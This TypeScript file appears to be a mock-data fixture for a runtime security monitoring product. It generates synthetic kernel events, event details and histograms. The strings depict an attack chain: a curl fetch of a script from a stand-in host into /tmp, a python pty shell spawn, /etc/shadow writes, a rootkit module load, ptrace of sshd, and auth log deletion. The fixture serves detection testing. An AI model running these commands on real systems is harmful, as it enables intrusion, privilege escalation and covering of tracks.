import type { EventDetail, EventHistogram, EventRow } from "../../src/core/api/events.ts";
import type { SensorDetail } from "../../src/core/api/sensors.ts";
import { KINDS, type EventKind } from "../../src/core/event/kinds.ts";
import { Dice } from "../../test/harness/dice.ts";

const iso = (ms: number): string => new Date(ms).toISOString();
const EPOCH = "9f2c81d06b7e4a35";
const COMMON: readonly EventKind[] = [
  "process_exec",
  "process_exit",
  "network_connect",
  "dns_query",
  "file_open",
  "process_exec",
  "network_close",
  "process_exec",
  "network_accept",
  "dns_response",
];
const RARE: readonly EventKind[] = [
  "file_write",
  "setuid",
  "process_ptrace",
  "memfd_create",
  "process_exec_burst",
  "kernel_module",
  "file_delete",
  "engine_loss",
  "exec_memfd",
  "namespace_change",
];
const BINARIES = [
  "/usr/bin/curl",
  "/usr/sbin/nginx",
  "/usr/bin/bash",
  "/usr/bin/python3.11",
  "/usr/lib/postgresql/16/bin/postgres",
  "/usr/sbin/cron",
  "/usr/bin/apt-get",
];

const ARGUMENTS: Readonly<Record<string, string>> = {
  "/usr/bin/curl": "-fsSL https://updates.example.net/x.sh -o /tmp/.x",
  "/usr/sbin/nginx": "-g daemon off;",
  "/usr/bin/bash": "-c /opt/backup/run.sh",
  "/usr/bin/python3.11": "-c import pty; pty.spawn('/bin/bash')",
  "/usr/lib/postgresql/16/bin/postgres": "-D /var/lib/postgresql/16/main",
  "/usr/sbin/cron": "-f",
  "/usr/bin/apt-get": "update",
};

function message(kind: EventKind, binary: string, r: Dice): string {
  const name = binary.split("/").at(-1);
  // The few kinds worth a sentence of their own here; the rest say their title.
  const spoken: string = kind;
  switch (spoken) {
    case "process_exec":
      return `${name} was started by bash`;
    case "process_exit":
      return `${name} ended with code ${r.pick([0, 0, 0, 1, 2])}`;
    case "network_connect":
      return `${name} connected to 198.51.100.${r.int(2, 240)}:443 (updates.example.net)`;
    case "network_close":
      return `${name} closed 198.51.100.34:443 after 1.2 s, 4.1 KiB sent, 88 KiB received`;
    case "network_accept":
      return `${name} accepted 10.20.4.${r.int(2, 240)}:51234`;
    case "dns_query":
      return `${name} asked for updates.example.net (A)`;
    case "dns_response":
      return `${name} was told that updates.example.net is 198.51.100.34`;
    case "file_open":
      return `${name} opened /etc/passwd for reading`;
    case "file_write":
      return `${name} opened /etc/shadow for writing`;
    case "setuid":
      return `${name} changed its user id from 33 to 0`;
    case "exec_memfd":
      return `${name} executed /memfd:kworker (deleted) from memory`;
    case "memfd_create":
      return `${name} created the anonymous file “kworker”`;
    case "kernel_module":
      return `${name} loaded the kernel module diamorphine from /tmp/.x/diamorphine.ko`;
    case "process_ptrace":
      return `${name} attached to sshd (pid ${r.int(700, 900)}) to trace it`;
    case "file_delete":
      return `${name} removed /var/log/auth.log`;
    case "namespace_change":
      return `${name} entered the mount and network namespaces of another process`;
    case "process_exec_burst":
      return `${name} was started ${r.int(12, 90)} times within a second by bash`;
    case "engine_loss":
      return `${r.int(40, 2400)} events were lost in the kernel: ring buffer full`;
    default:
      return `${name}: ${KINDS[kind].title.toLowerCase()}`;
  }
}

/** The n-th event back in time of an endless, steady past. */
export function makeRow(n: number, fleet: readonly SensorDetail[], atMs: number): EventRow {
  const r = new Dice(n * 2654435761);
  const kind = r.next() < 0.09 ? r.pick(RARE) : r.pick(COMMON);
  const sensor = r.pick(fleet);
  const binary = kind === "engine_loss" ? "" : r.pick(BINARIES);
  return {
    event_id: `${sensor.sensor_id}.${EPOCH}.${1_000_000 + n}`,
    sensor_id: sensor.sensor_id,
    node_name: sensor.node_name,
    kind,
    severity: KINDS[kind].severity,
    observed_at: iso(atMs).replace("Z", `${String(n % 1000).padStart(3, "0")}Z`),
    ingested_at: iso(atMs + 240),
    message: message(kind, binary, r),
    process_executable: binary,
    process_arguments: ARGUMENTS[binary] ?? "",
    pid: binary ? r.int(900, 64_000) : 0,
    uid: r.pick([0, 33, 1000]),
    exec_id: binary ? `bm9kZTox${r.hex(12)}OjEyMw==` : "",
    container_id: r.next() < 0.2 ? r.hex(64) : "",
  };
}

/** An event with all its sections. */
export function makeDetail(row: EventRow): EventDetail {
  const common = {
    seq: Number(row.event_id.split(".")[2]),
    kind: row.kind,
    severity: row.severity,
    observed_at_us: Date.parse(row.observed_at) * 1000,
    message: row.message,
  };
  const event: EventDetail["event"] = {
    ...common,
    process: {
      exec_id: row.exec_id,
      parent_exec_id: "cGFyZW50",
      pid: row.pid,
      ppid: 812,
      tid: row.pid,
      uid: row.uid ?? 0,
      gid: 33,
      auid: 1000,
      binary: row.process_executable,
      comm: (row.process_executable.split("/").at(-1) ?? "").slice(0, 15),
      argv: [row.process_executable, ...row.process_arguments.split(" ")],
      cwd: "/var/www/html/uploads",
      start_time_us: (Date.parse(row.observed_at) - 4000) * 1000,
      cap_effective: "00000000a80425fb",
      flags: "execve clone",
      ns: { mnt: 4026532281, pid: 4026532284, net: 4026531992 },
      parent_binary: "/usr/bin/bash",
      ancestors: [
        {
          exec_id: "YmFzaA==",
          pid: 812,
          binary: "/usr/bin/bash",
          uid: 33,
          arguments: "-c curl -fsSL https://updates.example.net/x.sh",
        },
        { exec_id: "cGhw", pid: 640, binary: "/usr/sbin/php-fpm8.2", uid: 33, arguments: "pool www" },
        { exec_id: "aW5pdA==", pid: 1, binary: "/usr/lib/systemd/systemd", uid: 0 },
      ],
    },
    ...(row.kind.startsWith("file")
      ? {
          file: {
            path: row.kind === "file_write" ? "/etc/shadow" : "/etc/passwd",
            flags: "O_RDWR|O_CREAT|O_CLOEXEC",
            mode: "0640",
            watch: "W /etc/shadow",
            toctou: true,
          },
        }
      : {}),
    ...(row.kind.startsWith("network")
      ? {
          network: {
            family: "inet" as const,
            protocol: "tcp" as const,
            direction: "outbound" as const,
            local_addr: "10.20.4.17",
            local_port: 51_234,
            remote_addr: "198.51.100.34",
            remote_port: 443,
            dns_hostname: "updates.example.net",
            bytes_sent: 4210,
            bytes_received: 90_112,
            duration_us: 1_204_000,
          },
        }
      : {}),
    ...(row.kind.startsWith("dns")
      ? {
          dns: {
            id: 4711,
            query: "updates.example.net",
            qtype: "A",
            rcode: "NOERROR",
            answers: [{ name: "updates.example.net", type: "A", ttl: 300, data: "198.51.100.34" }],
          },
        }
      : {}),
    workload: { unit: "php8.2-fpm.service", cgroup: "/system.slice/php8.2-fpm.service" },
    hook: { function_name: "sys_openat", policy_name: "telovix-file-open", backend: "raw_tp", return_value: 3, cpu: 2 },
    tags: ["credentials"],
  };
  const raw = JSON.stringify({
    process_kprobe: {
      process: { exec_id: row.exec_id, pid: row.pid, binary: row.process_executable },
      function_name: "sys_openat",
      args: [{ int_arg: -100 }, { file_arg: { path: "/etc/shadow", flags: "O_RDWR" } }],
    },
    node_name: row.node_name,
    time: row.observed_at,
    telovix: { seq: "88123", backend: "raw_tp" },
  });
  return { ...row, event, raw, epoch: EPOCH, seq: common.seq };
}

/** Counts over a range, with a burst and two blind ranges. */
export function makeHistogram(fromMs: number, toMs: number): EventHistogram {
  const steps = 90;
  const stepMs = Math.max(1000, Math.round((toMs - fromMs) / steps / 1000) * 1000);
  const r = new Dice(5);
  const start = Math.floor(fromMs / stepMs) * stepMs;
  const buckets: EventHistogram["buckets"][number][] = [];
  for (let at = start; at < toMs; at += stepMs) {
    const i = buckets.length;
    const burst = i > 52 && i < 57 ? 3.2 : 1;
    buckets.push({
      at: iso(at),
      info: Math.round((180 + 60 * Math.sin(i / 9) + r.int(0, 40)) * burst),
      warning: r.int(2, 14) * (burst > 1 ? 6 : 1),
      high: burst > 1 ? r.int(8, 24) : r.int(0, 3),
      critical: burst > 1 ? r.int(4, 9) : r.next() < 0.06 ? 1 : 0,
      late: i > 26 && i < 34 ? 160 : 0,
    });
  }
  const at = (part: number): string => iso(fromMs + (toMs - fromMs) * part);
  return {
    from: iso(fromMs),
    to: iso(toMs),
    step_secs: stepMs / 1000,
    buckets,
    blind: [
      {
        from: at(0.58),
        to: at(0.62),
        sensor_id: "x",
        node_name: "web-18",
        stage: "kernel",
        cause: "ring_main",
        count: 1204,
        unknown: false,
      },
      {
        from: at(0.2),
        to: at(0.23),
        sensor_id: "y",
        node_name: "edge-18",
        stage: "spool",
        cause: "spool_full",
        count: 311,
        unknown: true,
      },
    ],
    total: buckets.reduce((n, b) => n + b.info + b.warning + b.high + b.critical, 0),
  };
}
